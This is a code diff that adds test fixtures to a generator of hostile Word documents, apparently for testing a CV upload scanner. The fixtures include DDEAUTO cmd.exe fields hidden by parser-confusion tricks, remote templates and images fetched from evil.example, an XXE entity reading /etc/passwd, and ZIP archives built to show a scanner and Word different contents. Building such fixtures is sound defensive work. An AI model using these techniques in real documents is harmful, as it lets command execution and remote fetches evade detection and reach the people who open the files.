@@ -1,3 +1,4 @@
+import { crc32 } from 'node:zlib';
 import { buildCfb } from './build-cfb.ts';
 import { buildDoc } from './build-doc.ts';
 import {
@@ -87,6 +88,21 @@ function fetched(): HostileCv[] {
       ),
       'fetches',
     ),
+    // Two attributes of one name: which one counts is up to the reader.
+    docx(
+      'a template from elsewhere',
+      rels(
+        `<Relationships xmlns="${ns}" xmlns:x="urn:x"><Relationship x:Type="${type.replace('attachedTemplate', 'hyperlink')}" x:Target="https://example.com" Id="r" Type="${type}" Target="//evil/x" TargetMode="External"/></Relationships>`,
+      ),
+      'damaged',
+    ),
+    docx(
+      'a template from elsewhere',
+      rels(
+        `<Relationships xmlns="${ns}" xmlns:x="urn:x"><Relationship x:TargetMode="Internal" Id="r" Type="${type}" Target="a.dotm"/></Relationships>`,
+      ),
+      'damaged',
+    ),
     ...[
       'image',
       'frame',
@@ -121,6 +137,24 @@ function fetched(): HostileCv[] {
       'fetches',
     ),
     docx('image from elsewhere', { relationships: [{ type: 'image', target: 'file://evil/x' }] }, 'fetches'),
+    // What a link names is fetched where a picture names the link.
+    docx(
+      'image from elsewhere',
+      {
+        relationships: [{ type: 'hyperlink', target: 'https://evil.example/x.png', mode: 'External' }],
+        body: '<w:p><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId1"/></w:p>',
+      },
+      'fetches',
+    ),
+    docx(
+      'a template from elsewhere',
+      withTemplate(
+        '',
+        '',
+        relationships([{ type: 'hyperlink', target: 'https://evil.example/x.dotm', mode: 'External' }]),
+      ),
+      'fetches',
+    ),
     docx(
       'image from elsewhere',
       { body: '<w:p><w:pict><v:shape><v:imagedata src="\\\\evil\\x.png"/></v:shape></w:pict></w:p>' },
@@ -203,14 +237,120 @@ function fields(): HostileCv[] {
     `<w:p>${text('DDEAUTO c:\\\\cmd.exe')}</w:p>`,
     `<w:p>${begin}<w:del><w:r><w:delInstrText>DDEAUTO c:\\\\cmd.exe</w:delInstrText></w:r></w:del>${end}</w:p>`,
   ];
-  const odd = wordXml(field('DDEAUTO c:\\\\cmd.exe'))
-    .replaceAll('w:', 'q:')
-    .replace('xmlns:w=', 'xmlns:q=')
-    .replace(
-      'xmlns:q="http://schemas.openxmlformats.org/wordprocessingml',
-      'xmlns:q="http://schemas.openxmlformats.org/wordprocessingml',
-    );
+  const odd = wordXml(field('DDEAUTO c:\\\\cmd.exe')).replaceAll('w:', 'q:').replace('xmlns:w=', 'xmlns:q=');
+  const inTwo = `${text('DD')}${text('EAUTO c:\\\\cmd.exe')}${end}`;
+  const other = 'xmlns:x="urn:schemas-microsoft-com:x"';
+  const passedOver = (content: string) =>
+    `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="zz">${content}</mc:Choice></mc:AlternateContent>`;
+  /** What we would read and Word would not, or the other way round. */
+  const halfSeen: readonly (readonly [string, HostileCv['held']])[] = [
+    [`<w:fldSimple ${other} x:instr="PAGE" w:instr="DDEAUTO c:\\cmd.exe"/>`, 'damaged'],
+    [`<w:fldSimple instr="PAGE" w:instr="DDEAUTO c:\\cmd.exe"/>`, 'damaged'],
+    [`${begin}${passedOver(text('PAGE '))}${text('DDEAUTO c:\\cmd.exe')}${end}`, 'field'],
+    [`${begin}${passedOver(end)}${inTwo}`, 'field'],
+    [`${begin}<w:smartTag>${passedOver(end)}</w:smartTag>${inTwo}`, 'field'],
+    [`${begin}<x:drop ${other}>${end}</x:drop>${inTwo}`, 'field'],
+    [
+      `${begin}<w:r><w:pict><v:shape><v:textbox><w:txbxContent>${end}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>${inTwo}`,
+      'field',
+    ],
+    [`${begin}<x:fldSimple ${other}/>${inTwo}`, 'hidden'],
+    [`${begin}<w:r><x:fldChar ${other} fldCharType="end"/></w:r>${inTwo}`, 'hidden'],
+    [`${begin}<w:r><x:fldChar xmlns:x="urn:x" w:fldCharType="end"/></w:r>${inTwo}`, 'hidden'],
+    [`${begin}<w:r><w:fldChar w:fldCharType="End"/></w:r>${inTwo}`, 'hidden'],
+    [`${begin}<w:fldSimple w:instr="PAGE">${end}</w:fldSimple>${inTwo}`, 'field'],
+    [`<w:r><w:instrText><x:y ${other}/>DDEAUTO c:\\cmd.exe</w:instrText></w:r>`, 'field'],
+    [`${begin}<w:r><w:instrText>PAGE <w:t>x</w:t></w:instrText></w:r>${end}`, 'field'],
+    [`${begin}<w:r><w:t>DDEAUTO c:\\cmd.exe</w:t></w:r>${end}`, 'field'],
+    [`${begin}<w:r><w:t>PAGE </w:t></w:r>${text('DDEAUTO c:\\cmd.exe')}${end}`, 'field'],
+    [
+      `${begin}<w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del>${text('DDEAUTO c:\\cmd.exe')}${end}`,
+      'field',
+    ],
+    [`${begin}<w:del>${text('PAGE ')}</w:del>${text('DDEAUTO c:\\cmd.exe')}${end}`, 'field'],
+  ];
+  const secret = field('DDEAUTO c:\\\\cmd.exe');
+  const header = (name: string, more: DocxOptions = {}, content: string | Buffer = wordXml(secret)) =>
+    ({
+      relationships: [{ type: 'header', target: `/${name}` }],
+      parts: [{ name, content }],
+      ...more,
+    }) satisfies DocxOptions;
   return [
+    ...halfSeen.map(([inner, held]) => docx('a field half seen', { body: `<w:p>${inner}</w:p>` }, held)),
+    docx(
+      'a field in what looks like data',
+      { documentName: 'customXml/document.xml', body: secret },
+      'field',
+    ),
+    docx('a field in what looks like data', header('customXml/item1.xml'), 'field'),
+    docx(
+      'a field in what looks like data',
+      {
+        relationships: [
+          { type: 'customXml', target: '../customXml/item1.xml' },
+          { type: 'footer', target: '../CustomXML/Item1.xml' },
+        ],
+        parts: [{ name: 'customXml/item1.xml', content: wordXml(secret) }],
+      },
+      'field',
+    ),
+    // Read by the relationship that leads there, whatever type the list of types gives it.
+    ...['font/x', 'application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings'].map(
+      (type) =>
+        docx(
+          'a field in what looks like a font',
+          header('word/a.odttf', { types: { '/word/a.odttf': type } }),
+          'unknownPart',
+        ),
+    ),
+    docx(
+      'a field in what looks like a picture',
+      header(
+        'word/a.png',
+        { defaults: { png: 'image/png' } },
+        Buffer.from(wordXml(secret).replace('UTF-8', 'UTF-16'), 'utf16le'),
+      ),
+      'unknownPart',
+    ),
+    docx(
+      'a field under a name in disguise',
+      {
+        relationships: [{ type: 'header', target: 'header1.fnt' }],
+        parts: [{ name: 'word/%68eader1.fnt', content: wordXml(secret) }],
+        defaults: { fnt: 'font/x' },
+      },
+      'unknownPart',
+    ),
+    docx(
+      'a field under a name in disguise',
+      {
+        relationships: [{ type: 'header', target: 'a//header1.fnt' }],
+        parts: [{ name: 'word/a//header1.fnt', content: wordXml(secret) }],
+        defaults: { fnt: 'font/x' },
+      },
+      'unknownPart',
+    ),
+    ...[' header1.fnt', 'header1.fnt#x'].map((target) =>
+      docx(
+        'a field under a name in disguise',
+        {
+          relationships: [{ type: 'header', target }],
+          parts: [{ name: `word/${target}`, content: wordXml(secret) }],
+          defaults: { fnt: 'font/x', 'fnt#x': 'font/x' },
+        },
+        'unknownPart',
+      ),
+    ),
+    docx(
+      'a field in what looks like a font',
+      {
+        parts: [{ name: 'word/a.odttf', content: wordXml(secret) }],
+        types: { '/word/a.odttf': 'font/x' },
+      },
+      'embeddedObject',
+    ),
+    docx('a field in a table of relationships', header('word/header1.rels'), 'unknownPart'),
     ...bodies.map((body) => docx('a field that runs or fetches', { body }, 'field')),
     docx('a field that runs or fetches', { body: field('CONTROL Forms.HTML') }, 'control'),
     docx('a field that runs or fetches', { body: field('HYPERLINK "file://10.0.0.1/x"') }, 'oddLink'),
@@ -527,8 +667,85 @@ function archives(): HostileCv[] {
     parts.map((part): ZipPart => (part.name === 'word/document.xml' ? { ...part, content } : part));
   const doctype = wordXml('').replace('?>\n', '?>\n<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>');
   const family = 'a crooked archive';
+  const secretBody = field('DDEAUTO c:\\\\cmd.exe');
+  const secretXml = wordXml(secretBody);
+  const withFonts = docxParts({ defaults: { fnt: 'font/x' } });
+  const twice = buildZip([...parts, ...docxParts({ body: secretBody })]);
+  const endAt = twice.length - 22;
+  const firstAt = twice.readUInt32LE(endAt + 16);
+  const secondAt = firstAt + (endAt - firstAt) / 2;
+  /** The end of a directory that says what it likes. */
+  const endOf = (count: number, size: number, offset: number): Buffer => {
+    const record = Buffer.from(twice.subarray(endAt));
+    record.writeUInt16LE(count, 8);
+    record.writeUInt16LE(count, 10);
+    record.writeUInt32LE(size, 12);
+    record.writeUInt32LE(offset, 16);
+    return record;
+  };
+  const harmlessFirst = [twice.subarray(0, secondAt), endOf(parts.length, secondAt - firstAt, firstAt)];
+  const secretDirectory = twice.subarray(secondAt, endAt);
+  const secretAt = secondAt + 22;
   return [
     docx(family, plain.subarray(0, plain.length - 22), 'damaged'),
+    // Two directories, of which we would read one and an office program the other.
+    docx(
+      family,
+      Buffer.concat([
+        ...harmlessFirst,
+        secretDirectory,
+        Buffer.from('\n'),
+        endOf(parts.length, secretDirectory.length, secretAt),
+      ]),
+      'damaged',
+    ),
+    docx(
+      family,
+      Buffer.concat([
+        ...harmlessFirst,
+        secretDirectory,
+        Buffer.from('PK\x06\x06'),
+        Buffer.alloc(52),
+        Buffer.from('PK\x06\x07'),
+        Buffer.alloc(16),
+        endOf(0xffff, 0xffffffff, 0xffffffff),
+      ]),
+      'damaged',
+    ),
+    docx(
+      family,
+      Buffer.concat([twice.subarray(0, endAt), endOf(parts.length, secretDirectory.length, firstAt)]),
+      'damaged',
+    ),
+    docx(
+      family,
+      Buffer.concat([twice.subarray(0, endAt), endOf(parts.length, endAt - firstAt, firstAt)]),
+      'damaged',
+    ),
+    // Names that read in two ways.
+    docx(
+      family,
+      buildZip([...withFonts, { name: 'word/a.fnt', localName: 'word/b.xml', content: secretXml }]),
+      'damaged',
+    ),
+    docx(
+      family,
+      buildZip([
+        ...withFonts,
+        { name: 'word/b.xml', content: secretXml, extra: [0x7075, unicodePath('word/b.xml', 'word/a.fnt')] },
+      ]),
+      'damaged',
+    ),
+    docx(
+      family,
+      {
+        defaults: { png: 'image/png', PNG: 'application/vnd.ms-office.vbaProject' },
+        parts: [{ name: 'a.png', content: gif }],
+      },
+      'damaged',
+    ),
+    docx(family, buildZip([...parts, { name: 'word/é.png', content: gif }]), 'damaged'),
+    docx(family, buildZip([...parts, { name: 'word/header1.xml\0.png', content: gif }]), 'damaged'),
     docx(family, Buffer.concat([plain, program]), 'mixed'),
     docx(family, Buffer.concat([plain, Buffer.from('<html><script>1</script></html>')]), 'mixed'),
     docx(family, Buffer.concat([plain, Buffer.alloc(5000, 1)]), 'mixed'),
@@ -584,6 +801,15 @@ function archives(): HostileCv[] {
     { ...docx(family, buildPdf(), 'otherType') },
     { ...docx(family, Buffer.concat([gif, buildPdf()]), 'otherType') },
   ];
+}
+
+/** Info-ZIP's field by which a part has another name. */
+function unicodePath(name: string, other: string): Buffer {
+  const field = Buffer.alloc(5 + Buffer.byteLength(other));
+  field[0] = 1;
+  field.writeUInt32LE(crc32(name), 1);
+  field.write(other, 5);
+  return field;
 }
 
 export const hostileDocxs = (): HostileCv[] => [
